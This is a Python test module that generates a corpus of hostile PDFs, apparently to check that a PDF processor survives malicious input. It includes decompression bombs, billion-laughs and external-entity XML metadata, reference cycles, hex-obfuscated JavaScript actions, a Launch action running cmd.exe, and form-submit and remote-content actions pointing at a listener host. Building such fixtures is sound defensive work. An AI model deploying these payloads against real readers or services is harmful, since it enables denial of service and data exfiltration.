"""PDFs whose streams, pictures, fonts and promises are made to hurt."""

import io
import struct

import pikepdf
from PIL import Image

from tests.media_assets import corpus
from tests.media_assets.corpus_hostile.making import LISTENER, MEGA, flate, inflating, zeros
from tests.media_assets.corpus_hostile.papers import form, image, page, pdf, stream, with_image

_LAUGHS = (
    b'<?xpacket begin=""?><!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    + b']><x:xmpmeta xmlns:x="adobe:ns:meta/">&m;</x:xmpmeta>'
)
_FETCHED = b'<!DOCTYPE x [<!ENTITY a SYSTEM "' + LISTENER + b'">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&a;</x:xmpmeta>'


def _catalogue(entries, *more):
    """A PDF of one page whose catalogue says more."""
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % entries,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R >>",
        stream(b"0 0 50 50 re f"),
        *more,
    )


def _metadata(content, filters=b""):
    return _catalogue(b"/Metadata 5 0 R", stream(content, b"/Type /Metadata /Subtype /XML " + filters))


def _numbered(first, table, count):
    """A PDF of which the table of references is a stream (ISO 32000-2, 7.5.8); rows are (type, number, number)."""
    rows = b"".join(struct.pack(">BIH", *row) for row in table)
    head = b"%PDF-1.7\n" + first
    entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % count
    return head + b"9 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(rows, entries), len(head))


def _object_stream_of_itself():
    packed = stream(b"1 0 5 40 << /Type /Catalog /Pages 2 0 R >>" + b" " * 99, b"/Type /ObjStm /N 2 /First 8")
    first = b"5 0 obj\n%s\nendobj\n" % packed
    return _numbered(first, [(0, 0, 0), (2, 5, 0), (2, 5, 1), (2, 5, 1), (0, 0, 0), (2, 5, 1)], 6)


def _object_streams_in_a_ring():
    """Each says that it goes on in the other."""
    first = b"".join(
        b"%d 0 obj\n%s\nendobj\n" % (one, stream(b"1 0 null", b"/Type /ObjStm /N 1 /First 4 /Extends %d 0 R" % other))
        for one, other in ((5, 6), (6, 5))
    )
    return _numbered(first, [(0, 0, 0), (2, 5, 0), (2, 6, 0), (0, 0, 0), (0, 0, 0), (1, 9, 0), (1, 90, 0)], 7)


def _saved_again(times):
    """So many changes, one appended to the other."""
    content = page()
    previous = content.rindex(b"xref\n0")
    for _time in range(times):
        start = len(content)
        content += b"xref\n0 0\ntrailer << /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            previous,
            start,
        )
        previous = start
    return content


def _encrypted(**passwords):
    with pikepdf.open(io.BytesIO(corpus.good("afiche.pdf"))) as opened:
        buffer = io.BytesIO()
        opened.save(buffer, encryption=pikepdf.Encryption(**passwords))
    return buffer.getvalue()


def _jbig2(width, height, *more):
    """A page of that size in black and white, which may hold nothing."""
    header = struct.pack(">IBBBI", 0, 48, 0, 1, 19) + struct.pack(">IIIIBH", width, height, 0, 0, 0, 0)
    return with_image(image(header + b"".join(more), b"/JBIG2Decode", width, height, b"/DeviceGray"))


def _jbig2_symbols():
    """A dictionary that announces four thousand million symbols."""
    body = struct.pack(">H", 0) + bytes(8) + struct.pack(">II", 0xFFFFFFFF, 0xFFFFFFFF)
    return _jbig2(999, 999, struct.pack(">IBBBI", 1, 0, 0, 1, len(body)) + body)


def _jpx(side, claim=None):
    buffer = io.BytesIO()
    Image.new("CMYK" if claim else "L", (side, side)).convert("L").save(buffer, "JPEG2000")
    content = buffer.getvalue()
    if claim:
        at = content.index(b"\xff\x51") + 6
        content = content[:at] + struct.pack(">II", claim, claim) + content[at + 8 :]
    return with_image(image(content, b"/JPXDecode", claim or side, claim or side, b"/DeviceGray"))


def _with_font(descriptor, *more):
    return page(
        b"BT /F 12 Tf 9 9 Td (Hola) Tj ET",
        b"",
        b"<< /Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor 6 0 R /ToUnicode 7 0 R >>",
        b"<< /Type /FontDescriptor /FontName /A %s >>" % descriptor,
        *more,
        resources=b"/Font << /F 5 0 R >>",
    )


def _mask_of_itself():
    return page(
        b"/G gs 0 0 300 300 re f",
        b"",
        b"<< /SMask << /S /Luminosity /G 6 0 R >> >>",
        stream(
            b"/G gs 0 0 99 99 re f",
            b"/Type /XObject /Subtype /Form /BBox [0 0 300 300] /Group << /S /Transparency >> "
            b"/Resources << /ExtGState << /G 5 0 R >> >>",
        ),
        resources=b"/ExtGState << /G 5 0 R >>",
    )


def _action(entries):
    return page(entries=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << %s >> >>]" % entries)


INSIDE_PAPERS = {
    "object-stream-of-itself.pdf": _object_stream_of_itself,
    "object-streams-in-a-ring.pdf": _object_streams_in_a_ring,
    "saved-again-100000.pdf": lambda: _saved_again(20_000),
    "saved-in-a-ring.pdf": lambda: _saved_again(2).replace(b"/Prev ", b"/Prev 9", 1),
    "references-far-wide.pdf": lambda: _numbered(b"", [(1, 0xFFFFFFFF, 0xFFFF)] * 9, 0x7FFFFFFF),
    "references-of-no-width.pdf": lambda: _numbered(b"", [(1, 9, 0)] * 9, 9).replace(b"[1 4 2]", b"[0 0 0]"),
    "references-of-great-width.pdf": lambda: _numbered(b"", [(1, 9, 0)] * 9, 9).replace(b"[1 4 2]", b"[9 99999999 9]"),
    "branches-in-a-ring.pdf": lambda: pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
    ),
    "kids-many-times.pdf": lambda: page().replace(b"[3 0 R] /Count 1", b"[" + b"3 0 R " * 500 + b"] /Count 500"),
    "forms-in-a-ring.pdf": lambda: page(
        b"/A Do",
        b"",
        form(b"/B Do /B Do", b"/XObject << /B 6 0 R >>"),
        form(b"/A Do /A Do", b"/XObject << /A 5 0 R >>"),
        resources=b"/XObject << /A 5 0 R >>",
    ),
    "mask-group-of-itself.pdf": _mask_of_itself,
    "password.pdf": lambda: _encrypted(user="secreto", owner="dueño"),
    "password-of-the-owner.pdf": lambda: _encrypted(user="", owner="dueño"),
    "password-broken.pdf": lambda: page().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Nada /V 99 >>"),
    "jbig2-bomb.pdf": lambda: _jbig2(0xFFFFFFF0, 0xFFFFFFF0),
    "jbig2-large-bomb.pdf": lambda: _jbig2(30_000, 30_000),
    "jbig2-symbols-bomb.pdf": _jbig2_symbols,
    "jpx-bomb.pdf": lambda: _jpx(6000),
    "jpx-claims-bomb.pdf": lambda: _jpx(64, 0x7FFFFFF0),
    "jpx-claims-30000.pdf": lambda: _jpx(64, 30_000),
    "zip-bomb.pdf": lambda: page(flate(zeros(900)), content_entries=b"/Filter [/FlateDecode /FlateDecode]"),
    "text-85-bomb.pdf": lambda: page(b"z" * (20 * MEGA) + b"~>", content_entries=b"/Filter /ASCII85Decode"),
    "predictor-lies.pdf": lambda: with_image(
        image(
            flate(b"\0" * 99),
            b"/FlateDecode",
            entries=b"/DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 99999 /BitsPerComponent 16 >>",
        )
    ),
    "profile-bomb.pdf": lambda: page(
        b"/S cs 1 1 1 1 scn 0 0 99 99 re f",
        b"",
        b"[/ICCBased 6 0 R]",
        stream(inflating(bytes(MEGA), 1024), b"/N 4 /Filter /FlateDecode"),
        resources=b"/ColorSpace << /S 5 0 R >>",
    ),
    "output-profile-bomb.pdf": lambda: _catalogue(
        b"/OutputIntents [<< /Type /OutputIntent /S /GTS_PDFX /OutputConditionIdentifier (A) "
        b"/DestOutputProfile 5 0 R >>]",
        stream(inflating(bytes(MEGA), 1024), b"/N 4 /Filter /FlateDecode"),
    ),
    "output-intents-100000.pdf": lambda: _catalogue(b"/OutputIntents [" + b"<< /S /GTS_PDFA1 >> " * 100_000 + b"]"),
    "metadata-bomb.pdf": lambda: _metadata(inflating(b"<a>" * (MEGA // 3), 1024), b"/Filter /FlateDecode"),
    "metadata-laughs.pdf": lambda: _metadata(_LAUGHS),
    "metadata-fetched.pdf": lambda: _metadata(_FETCHED),
    "font-bomb.pdf": lambda: _with_font(
        b"/FontFile2 8 0 R", stream(b""), stream(inflating(bytes(MEGA), 900), b"/Filter /FlateDecode")
    ),
    "font-map-bomb.pdf": lambda: _with_font(
        b"", stream(inflating(b"<00> <ff> <0000>\n" * 60_000, 900), b"/Filter /FlateDecode")
    ),
    "font-noise.pdf": lambda: _with_font(b"/FontFile2 8 0 R", stream(b"beginbfchar"), stream(bytes(range(256)) * 99)),
    "fonts-100000.pdf": lambda: page(
        b"".join(b"/F%d 9 Tf " % n for n in range(20_000)),
        resources=b"/Font << " + b"".join(b"/F%d << /Type /Font >> " % n for n in range(20_000)) + b" >>",
    ),
    "function-program-deep.pdf": lambda: page(
        b"/S sh",
        b"",
        b"<< /ShadingType 2 /ColorSpace /DeviceCMYK /Coords [0 0 1 1] /Function 6 0 R >>",
        stream(b"{" * 50_000 + b"}" * 50_000, b"/FunctionType 4 /Domain [0 1] /Range [0 1 0 1 0 1 0 1]"),
        resources=b"/Shading << /S 5 0 R >>",
    ),
    "function-samples-bomb.pdf": lambda: page(
        b"/S sh",
        b"",
        b"<< /ShadingType 1 /ColorSpace /DeviceCMYK /Function 6 0 R >>",
        stream(
            b"\0" * 99,
            b"/FunctionType 0 /Domain [0 1 0 1] /Range [0 1 0 1 0 1 0 1] /Size [2147483647 2147483647] "
            b"/BitsPerSample 32",
        ),
        resources=b"/Shading << /S 5 0 R >>",
    ),
    "numbers-absurd.pdf": lambda: page(
        b"1e400 nan inf -1e400 re f " + b"9" * 999_999 + b" w 0 0 m 1 1 l S q 1e308 0 0 1e308 0 0 cm 0 0 1e308 1 re f Q"
    ),
    "matrix-of-nothing.pdf": lambda: page(b"q 0 0 0 0 0 0 cm BT /F 0 Tf (a) Tj ET 0 0 9 9 re B Q"),
    "texts-million.pdf": lambda: page(b"BT " + b"(a) Tj " * 1_000_000 + b"ET"),
    "notes-100000.pdf": lambda: page(entries=b"/Annots [" + b"<< /Subtype /Text /Rect [0 0 9 9] >> " * 100_000 + b"]"),
    "outline-ring.pdf": lambda: _catalogue(
        b"/Outlines 5 0 R", b"<< /First 6 0 R /Last 6 0 R >>", b"<< /Title (a) /Next 6 0 R /Parent 5 0 R >>"
    ),
    "names-ring.pdf": lambda: _catalogue(b"/Names << /Dests 5 0 R >>", b"<< /Kids [5 0 R] >>"),
    "portfolio.pdf": lambda: _catalogue(b"/Collection << /View /D >>"),
    "associated-files.pdf": lambda: _catalogue(
        b"/AF [<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>]", stream(b"MZ", b"/Type /EmbeddedFile")
    ),
    "form-of-xfa.pdf": lambda: _catalogue(b"/AcroForm << /Fields [] /XFA 5 0 R >>", stream(b"<xdp/>")),
    "names-of-scripts.pdf": lambda: _catalogue(
        b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>"
    ),
    "script-in-hexadecimal.pdf": lambda: _action(b"/S /J#61vaScript /J#53 (app.alert\\(1\\))"),
    "program-of-the-page.pdf": lambda: _action(b"/S /Launch /Win << /F (cmd.exe) >>"),
    "other-paper.pdf": lambda: _action(b"/S /GoToR /F (" + LISTENER + b") /D [0 /Fit]"),
    "form-sent-away.pdf": lambda: _action(b"/S /SubmitForm /F << /FS /URL /F (" + LISTENER + b") >>"),
    "content-elsewhere.pdf": lambda: page(content_entries=b"/F << /FS /URL /F (" + LISTENER + b") >>"),
    "colours-of-a-thousand-inks.pdf": lambda: page(
        b"/S cs " + b"1 " * 1000 + b"scn 0 0 99 99 re f",
        resources=b"/ColorSpace << /S [/DeviceN ["
        + b" ".join(b"/T%d" % n for n in range(1000))
        + b"] /DeviceCMYK << /FunctionType 2 /Domain [0 1] /N 1 >>] >>",
    ),
    "hidden-layer.pdf": lambda: page(b"/OC /L BDC 0 0 99 99 re f EMC", resources=b"/Properties << /L 3 0 R >>"),
}
